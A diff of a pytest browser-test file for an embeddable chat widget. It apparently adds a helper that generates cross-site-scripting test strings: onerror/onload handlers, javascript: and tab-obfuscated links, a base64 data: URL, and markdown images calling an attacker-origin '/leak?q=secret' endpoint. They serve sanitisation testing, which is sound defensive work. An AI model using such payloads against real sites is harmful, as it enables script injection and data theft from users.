@@ -10,7 +10,10 @@ from dataclasses import dataclass, field
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
 
+import httpx
 import pytest
+
+from tests.conftest import LiveServer
 
 ROOT = Path(__file__).resolve().parents[2]
 ARTIFACTS = ROOT / "test-artifacts" / "widget"
@@ -208,6 +211,16 @@ def help_centre(payload: str) -> dict[str, str]:
     }
 
 
+def payloads(attacker_origin: str) -> str:
+    return ('<img src=x onerror="window.__pwned=\'img\'"> '
+            f"![x]({attacker_origin}/leak?q=secret) "
+            '<svg onload="window.__pwned=\'svg\'"></svg> '
+            "[click me](javascript:window.__pwned='js') [tab](java\tscript:window.__pwned='tab') "
+            "[data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) "
+            f"<img src=\"{attacker_origin}/leak2?q=secret\"> "
+            f"[leak]({attacker_origin}/clicked)")
+
+
 def bot_spec(model_url: str, origins: list[str], language: str) -> dict:
     return {
         "persona": {"company": "Acme"},
@@ -222,7 +235,7 @@ def bot_spec(model_url: str, origins: list[str], language: str) -> dict:
 @dataclass
 class Deployment:
     url: str
-    admin: object  # httpx.Client authenticated as admin
+    admin: httpx.Client  # authenticated as admin
     bot_id: str = ""
     key: str = ""
     fr_bot_id: str = ""
@@ -263,11 +276,6 @@ class Deployment:
 
 @pytest.fixture(scope="module")
 def deployment(tmp_path_factory, site, attacker, scripted_model):
-    import httpx
-
-    from tests.browser.test_widget import payloads
-    from tests.conftest import LiveServer
-
     home = tmp_path_factory.mktemp("widget") / "home"
     home.mkdir()
     server = LiveServer(home, extra_env={
